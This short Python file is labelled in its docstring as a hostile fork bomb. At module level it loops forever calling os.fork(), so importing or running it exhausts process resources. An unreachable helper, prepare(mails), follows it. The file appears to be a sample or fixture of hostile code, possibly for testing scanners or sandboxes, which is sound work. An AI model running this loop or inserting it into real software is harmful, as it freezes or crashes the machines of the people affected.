"""Hostile program: fork bomb."""
import os
while True:
    os.fork()


def prepare(mails):
    return mails
